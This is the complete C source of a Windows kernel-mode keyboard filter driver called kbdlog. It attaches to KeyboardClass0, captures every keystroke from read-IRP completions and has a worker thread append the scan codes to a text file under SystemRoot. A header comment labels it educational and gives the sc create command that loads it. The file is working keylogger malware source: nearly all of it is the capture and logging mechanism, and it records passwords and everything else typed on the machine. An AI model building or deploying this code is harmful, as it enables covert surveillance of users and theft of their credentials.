/*
 * kbdlog.c - keyboard filter that logs scan codes to \SystemRoot\kbdlog.txt
 *
 * Educational only!  Attaches on top of \Device\KeyboardClass0, hooks
 * IRP_MJ_READ completion, pushes every KEYBOARD_INPUT_DATA into a list and a
 * worker thread writes them to a text file (we can't do file I/O at
 * DISPATCH_LEVEL inside the completion routine).
 *
 * Load with `sc create kbdlog type= kernel binPath= C:\drv\kbdlog.sys`.
 * Unload works as long as you press a key after `sc stop` (the pending read
 * IRP has to come back first).
 */
#include <ntddk.h>
#include <ntddkbd.h>

#define KL_TAG          'gLbK'
#define KL_TARGET_NAME  L"\\Device\\KeyboardClass0"
#define KL_LOG_FILE     L"\\SystemRoot\\kbdlog.txt"

typedef struct _KL_DEVICE_EXTENSION {
    PDEVICE_OBJECT LowerDevice;
} KL_DEVICE_EXTENSION, *PKL_DEVICE_EXTENSION;

typedef struct _KL_KEY_ENTRY {
    LIST_ENTRY Link;
    USHORT     MakeCode;
    USHORT     Flags;
} KL_KEY_ENTRY, *PKL_KEY_ENTRY;

DRIVER_INITIALIZE DriverEntry;
DRIVER_UNLOAD KlUnload;
DRIVER_DISPATCH KlDispatchPass;
DRIVER_DISPATCH KlDispatchRead;
IO_COMPLETION_ROUTINE KlReadComplete;
KSTART_ROUTINE KlLoggerThread;

static PDEVICE_OBJECT g_FilterDevice;
static LIST_ENTRY     g_KeyList;
static KSPIN_LOCK     g_KeyLock;
static KSEMAPHORE     g_KeySemaphore;
static KEVENT         g_StopEvent;
static volatile LONG  g_PendingReads;

/* ------------------------------------------------------------------------ */

NTSTATUS
KlDispatchPass(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_DEVICE_EXTENSION ext = (PKL_DEVICE_EXTENSION)DeviceObject->DeviceExtension;

    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(ext->LowerDevice, Irp);
}

NTSTATUS
KlReadComplete(PDEVICE_OBJECT DeviceObject, PIRP Irp, PVOID Context)
{
    UNREFERENCED_PARAMETER(DeviceObject);
    UNREFERENCED_PARAMETER(Context);

    if (NT_SUCCESS(Irp->IoStatus.Status)) {
        PKEYBOARD_INPUT_DATA keys = (PKEYBOARD_INPUT_DATA)Irp->AssociatedIrp.SystemBuffer;
        ULONG count = (ULONG)(Irp->IoStatus.Information / sizeof(KEYBOARD_INPUT_DATA));
        ULONG i;

        for (i = 0; i < count; i++) {
            PKL_KEY_ENTRY entry = (PKL_KEY_ENTRY)ExAllocatePool2(POOL_FLAG_NON_PAGED,
                                                                 sizeof(KL_KEY_ENTRY), KL_TAG);
            if (entry == NULL) {
                break;
            }
            entry->MakeCode = keys[i].MakeCode;
            entry->Flags = keys[i].Flags;

            ExInterlockedInsertTailList(&g_KeyList, &entry->Link, &g_KeyLock);
            KeReleaseSemaphore(&g_KeySemaphore, IO_NO_INCREMENT, 1, FALSE);
        }
    }

    if (Irp->PendingReturned) {
        IoMarkIrpPending(Irp);
    }

    InterlockedDecrement(&g_PendingReads);
    return Irp->IoStatus.Status;
}

NTSTATUS
KlDispatchRead(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_DEVICE_EXTENSION ext = (PKL_DEVICE_EXTENSION)DeviceObject->DeviceExtension;

    IoCopyCurrentIrpStackLocationToNext(Irp);
    IoSetCompletionRoutine(Irp, KlReadComplete, NULL, TRUE, TRUE, TRUE);

    InterlockedIncrement(&g_PendingReads);
    return IoCallDriver(ext->LowerDevice, Irp);
}

/* ------------------------------------------------------------------------ */

static VOID
KlWriteLine(HANDLE File, PCSTR Text, ULONG Length)
{
    IO_STATUS_BLOCK iosb;
    LARGE_INTEGER offset;

    /* append */
    offset.HighPart = -1;
    offset.LowPart = FILE_WRITE_TO_END_OF_FILE;

    ZwWriteFile(File, NULL, NULL, NULL, &iosb, (PVOID)Text, Length, &offset, NULL);
}

VOID
KlLoggerThread(PVOID StartContext)
{
    NTSTATUS status;
    HANDLE file = NULL;
    OBJECT_ATTRIBUTES oa;
    IO_STATUS_BLOCK iosb;
    UNICODE_STRING path;
    PVOID objects[2];

    UNREFERENCED_PARAMETER(StartContext);

    RtlInitUnicodeString(&path, KL_LOG_FILE);
    InitializeObjectAttributes(&oa, &path, OBJ_KERNEL_HANDLE | OBJ_CASE_INSENSITIVE, NULL, NULL);

    status = ZwCreateFile(&file, FILE_APPEND_DATA | SYNCHRONIZE, &oa, &iosb, NULL,
                          FILE_ATTRIBUTE_NORMAL, FILE_SHARE_READ, FILE_OPEN_IF,
                          FILE_SYNCHRONOUS_IO_NONALERT | FILE_NON_DIRECTORY_FILE, NULL, 0);
    if (!NT_SUCCESS(status)) {
        DbgPrint("kbdlog: cannot open log file 0x%08X\n", status);
        file = NULL;
    }

    objects[0] = &g_StopEvent;
    objects[1] = &g_KeySemaphore;

    for (;;) {
        PLIST_ENTRY le;
        status = KeWaitForMultipleObjects(2, objects, WaitAny, Executive, KernelMode,
                                          FALSE, NULL, NULL);
        if (status == STATUS_WAIT_0) {
            break;
        }

        le = ExInterlockedRemoveHeadList(&g_KeyList, &g_KeyLock);
        if (le != NULL) {
            PKL_KEY_ENTRY entry = CONTAINING_RECORD(le, KL_KEY_ENTRY, Link);
            CHAR line[32];
            ULONG len;

            len = (ULONG)_snprintf(line, sizeof(line) - 1, "%04X %s\r\n", entry->MakeCode,
                                   (entry->Flags & KEY_BREAK) ? "up" : "down");
            if (file != NULL && len < sizeof(line)) {
                KlWriteLine(file, line, len);
            }
            ExFreePoolWithTag(entry, KL_TAG);
        }
    }

    /* drain whatever is left */
    for (;;) {
        PLIST_ENTRY le = ExInterlockedRemoveHeadList(&g_KeyList, &g_KeyLock);
        if (le == NULL) {
            break;
        }
        ExFreePoolWithTag(CONTAINING_RECORD(le, KL_KEY_ENTRY, Link), KL_TAG);
    }

    if (file != NULL) {
        ZwClose(file);
    }

    PsTerminateSystemThread(STATUS_SUCCESS);
}

/* ------------------------------------------------------------------------ */

VOID
KlUnload(PDRIVER_OBJECT DriverObject)
{
    PKL_DEVICE_EXTENSION ext = (PKL_DEVICE_EXTENSION)g_FilterDevice->DeviceExtension;
    LARGE_INTEGER interval;

    UNREFERENCED_PARAMETER(DriverObject);

    IoDetachDevice(ext->LowerDevice);

    /* wait for the outstanding read to come back (user has to press a key) */
    interval.QuadPart = -10 * 1000 * 100; /* 100ms */
    while (g_PendingReads > 0) {
        KeDelayExecutionThread(KernelMode, FALSE, &interval);
    }

    /* tell the logger to stop */
    KeSetEvent(&g_StopEvent, IO_NO_INCREMENT, FALSE);

    IoDeleteDevice(g_FilterDevice);
    DbgPrint("kbdlog: unloaded\n");
}

NTSTATUS
DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    NTSTATUS status;
    UNICODE_STRING targetName;
    PFILE_OBJECT targetFile = NULL;
    PDEVICE_OBJECT targetDevice = NULL;
    PKL_DEVICE_EXTENSION ext;
    HANDLE thread;
    ULONG i;

    UNREFERENCED_PARAMETER(RegistryPath);

    for (i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++) {
        DriverObject->MajorFunction[i] = KlDispatchPass;
    }
    DriverObject->MajorFunction[IRP_MJ_READ] = KlDispatchRead;

    InitializeListHead(&g_KeyList);
    KeInitializeSpinLock(&g_KeyLock);
    KeInitializeSemaphore(&g_KeySemaphore, 0, MAXLONG);
    KeInitializeEvent(&g_StopEvent, NotificationEvent, FALSE);
    g_PendingReads = 0;

    status = IoCreateDevice(DriverObject, sizeof(KL_DEVICE_EXTENSION), NULL,
                            FILE_DEVICE_KEYBOARD, 0, FALSE, &g_FilterDevice);
    if (!NT_SUCCESS(status)) {
        DbgPrint("kbdlog: IoCreateDevice 0x%08X\n", status);
        return status;
    }

    ext = (PKL_DEVICE_EXTENSION)g_FilterDevice->DeviceExtension;
    RtlZeroMemory(ext, sizeof(*ext));

    RtlInitUnicodeString(&targetName, KL_TARGET_NAME);
    status = IoGetDeviceObjectPointer(&targetName, FILE_READ_DATA, &targetFile, &targetDevice);
    if (!NT_SUCCESS(status)) {
        DbgPrint("kbdlog: %wZ not found 0x%08X\n", &targetName, status);
        IoDeleteDevice(g_FilterDevice);
        return status;
    }

    ext->LowerDevice = IoAttachDeviceToDeviceStack(g_FilterDevice, targetDevice);
    ObDereferenceObject(targetFile);

    g_FilterDevice->Flags |= (ext->LowerDevice->Flags & (DO_BUFFERED_IO | DO_DIRECT_IO));
    g_FilterDevice->Flags |= DO_POWER_PAGABLE;
    g_FilterDevice->Flags &= ~DO_DEVICE_INITIALIZING;

    status = PsCreateSystemThread(&thread, THREAD_ALL_ACCESS, NULL, NULL, NULL,
                                  KlLoggerThread, NULL);
    if (!NT_SUCCESS(status)) {
        DbgPrint("kbdlog: PsCreateSystemThread 0x%08X\n", status);
        IoDetachDevice(ext->LowerDevice);
        IoDeleteDevice(g_FilterDevice);
        return status;
    }
    ZwClose(thread);

    DriverObject->DriverUnload = KlUnload;

    DbgPrint("kbdlog: attached to %wZ\n", &targetName);
    return STATUS_SUCCESS;
}
